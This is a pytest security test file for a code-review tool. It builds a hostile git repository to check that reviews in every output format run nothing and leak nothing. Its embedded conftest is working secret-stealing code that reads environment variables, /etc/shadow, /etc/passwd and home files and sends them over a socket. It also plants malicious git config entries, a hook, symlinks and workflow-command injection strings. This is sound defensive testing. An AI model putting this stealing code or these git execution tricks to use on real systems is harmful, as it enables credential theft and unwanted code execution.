"""A hostile repository is reviewed from outside, in every format: nothing runs beyond the wall, nothing leaks, and it is
reviewed all the same."""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.repo import Repo

pytestmark = [pytest.mark.serial, pytest.mark.matrix]

CANARY = "canary-7f3a9e51c2"
HOME_CANARY = "homecanary-90d1b7"
FORMATS = ("text", "json", "markdown", "sarif", "html", "rdjson")
STRANGE = "src/\x1b[31mred\n::error file=x::owned @everyone ![x](http://evil.example/p.png) <img src=x>.py"

ALL_FORMATS = """
import sys
from pathlib import Path
from reviewbot import review
from reviewbot.publish import formats

made = review("HEAD")
for kind in sys.argv[2:]:
    Path(sys.argv[1], kind).write_text(formats.render(kind, made, formats.Rendering(verbose=True)), "utf-8")
"""

CONFTEST = """
import glob, itertools, os, pathlib, socket

def hunt():
    yield repr(dict(os.environ))
    for place in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), "/etc/shadow", "/etc/passwd"]:
        try:
            yield pathlib.Path(place).read_bytes().decode("utf-8", "replace")
        except OSError:
            pass
    for folder in ({home!r}, {outside!r}, os.path.expanduser("~"), "/home", "/root"):
        for root, _, files in itertools.islice(os.walk(folder), 200):
            for name in files[:5]:
                try:
                    yield pathlib.Path(root, name).read_text("utf-8", "replace")[:2000]
                except OSError:
                    pass

LOOT = "\\n".join(hunt())
for port in ({port}, 53, 80):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as wire:
            wire.sendall(LOOT.encode())
    except OSError:
        pass
for place in ({trap!r}, {home!r} + "/written"):
    try:
        pathlib.Path(place).write_text("owned")
    except OSError:
        pass
print("LOOT", LOOT)

def pytest_report_header(config):
    return LOOT
"""

TEST = """
import os, sys
import conftest

def test_prints():
    print("\\x1b]0;owned\\x07\\x1b[2J::error title=owned::pwned")
    print("::set-output name=x::y", "##[error]pwned", "::add-mask::x")
    sys.stderr.write(conftest.LOOT)
    assert conftest.LOOT == "", "\\x1b[31m::warning::" + conftest.LOOT[-500:] + " @everyone fixes #1"
"""


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on loopback that remembers whoever calls."""
    server = socket.create_server(("127.0.0.1", 0))
    calls: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                wire, _ = server.accept()
            except OSError:
                return
            with wire:
                calls.append(wire.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], calls
    server.close()
    thread.join(5)


@pytest.fixture
def hostile(git_repo: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]) -> Repo:
    """A clean base, then a change that tries everything; the repository's own configuration is hostile as well."""
    git_repo.home.joinpath("secret.txt").write_text(HOME_CANARY)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(HOME_CANARY)
    git_repo.write("src/app.py", "def f(x):\n    return x\n")
    git_repo.write("test_app.py", "from src.app import f\n\n\ndef test_f():\n    assert f(1) == 1\n")
    git_repo.commit("clean")
    trap = tmp_path / "executed"
    words = {"home": str(git_repo.home), "outside": str(outside), "trap": str(trap), "port": listener[0]}
    git_repo.write("conftest.py", re.sub(r"\{(home|outside|trap|port)(!r)?\}", lambda found: repr(words[found[1]]), CONFTEST))
    git_repo.write("test_app.py", TEST)
    git_repo.write("ruff.toml", 'extend = "/proc/self/environ"\n')
    git_repo.write(".reviewbot.yml", "version: 1\nreview: {ignore: ['**']}\nsandbox: unconfined\n")
    git_repo.write("src/app.py", "def f(x, seen=[]):\n    seen.append(x)\n    return eval(x)\n")
    git_repo.write(STRANGE, "def g(x, seen=[]):\n    seen.append(x)\n    return eval(x)\n")
    for name, target in (("passwd.py", "/etc/passwd"), ("home.py", str(outside / "secret.txt")), ("dir", str(outside))):
        (git_repo.path / name).symlink_to(target)
    bare = git_repo.path / "embedded"
    for folder in ("objects", "refs"):
        (bare / folder).mkdir(parents=True)
        (bare / folder / "keep").write_text("")
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (bare / "config").write_text(f"[core]\n\tbare = true\n\tfsmonitor = touch {trap}\n")
    git_repo.write(".gitattributes", "*.py diff=evil filter=evil\n* -text\n")
    git_repo.commit("attack")
    for key in (
        "core.fsmonitor",
        "diff.evil.textconv",
        "diff.evil.command",
        "diff.external",
        "filter.evil.clean",
        "filter.evil.smudge",
        "core.sshCommand",
        "gpg.program",
    ):
        git_repo.git("config", key, f"touch {trap} #")
    git_repo.git("config", "filter.evil.required", "true")
    hook = git_repo.path / ".git" / "hooks" / "post-index-change"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\ntouch {trap}\n")
    hook.chmod(0o755)
    return git_repo


def review(repo: Repo, *words: str) -> subprocess.CompletedProcess[bytes]:
    return run(repo, sys.executable, "-m", "reviewbot.cli", "review", *words)


def run(repo: Repo, *command: str) -> subprocess.CompletedProcess[bytes]:
    """A process with a secret in its environment."""
    environment = {
        "PATH": os.environ["PATH"],
        "HOME": str(repo.home),
        "LANG": "C.UTF-8",
        "PYTHONPATH": str(Path.cwd()),
        "SECRET_TOKEN": CANARY,
        "GITHUB_ACTIONS": "true",
    }
    return subprocess.run(command, cwd=repo.path, env=environment, capture_output=True, check=False, timeout=180)


def untouched(repo: Repo, folder: Path, listener: tuple[int, list[bytes]]) -> None:
    """No trap was sprung, no file was written, nobody called."""
    assert not (folder / "executed").exists()
    assert not (repo.home / "written").exists()
    assert listener[1] == []


def leaks(output: bytes) -> list[str]:
    """What an output must never hold."""
    text = output.decode("utf-8", "replace")
    found = [word for word in (CANARY, HOME_CANARY, "root:x:0:0") if word in text]
    found += ["workflow command" for line in text.splitlines() if re.match(r"\s*(::[a-z-]+|##\[)", line)]
    return found + (["control characters"] if re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", text) else [])


@pytest.mark.ci
@pytest.mark.usefixtures("bubblewrap")
def test_a_hostile_commit_is_reviewed_without_executing_or_leaking_anything(
    hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]
) -> None:
    done = review(hostile, "HEAD", "-v")
    assert done.returncode in (0, 3), done.stderr
    assert leaks(done.stdout) == []
    assert leaks(done.stderr) == []
    assert b"Traceback" not in done.stderr
    untouched(hostile, tmp_path, listener)
    assert "src/app.py:3" in done.stdout.decode()


@pytest.mark.ci
@pytest.mark.usefixtures("bubblewrap")
def test_no_format_of_its_review_leaks_anything(hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    reports = tmp_path / "reports"
    reports.mkdir()
    done = run(hostile, sys.executable, "-c", ALL_FORMATS, str(reports), *FORMATS)
    assert done.returncode == 0, done.stderr
    untouched(hostile, tmp_path, listener)
    for kind in FORMATS:
        report = (reports / kind).read_bytes()
        assert leaks(report) == [], kind
        assert b"src/app.py" in report, kind
        assert b"eval" in report, kind


@pytest.mark.ci
@pytest.mark.usefixtures("bubblewrap")
@pytest.mark.parametrize("words", [("--worktree",), ("--staged",), ("--sandbox", "none")])
def test_uncommitted_work_under_a_hostile_configuration_runs_nothing(
    words: tuple[str, ...], hostile: Repo, tmp_path: Path, listener: tuple[int, list[bytes]]
) -> None:
    hostile.write("src/more.py", "def h(x, seen=[]):\n    seen.append(x)\n    return eval(x)\n")
    (hostile.path / "link.py").symlink_to("/etc/passwd")
    before = (hostile.path / ".git" / "index").read_bytes()
    done = review(hostile, *words, "--format", "json")
    assert done.returncode in (0, 3), done.stderr
    assert leaks(done.stdout + done.stderr) == []
    untouched(hostile, tmp_path, listener)
    assert (hostile.path / ".git" / "index").read_bytes() == before


@pytest.mark.ci
@pytest.mark.usefixtures("bubblewrap")
def test_the_hunt_finds_the_canary_where_there_is_no_wall(hostile: Repo, listener: tuple[int, list[bytes]]) -> None:
    """The traps are live: without the sandbox, which only the user may ask for, the same change gets through."""
    done = review(hostile, "HEAD", "--sandbox", "unconfined", "--format", "json")
    assert done.returncode in (0, 3), done.stderr
    assert listener[1] != []
    assert (hostile.home / "written").exists()
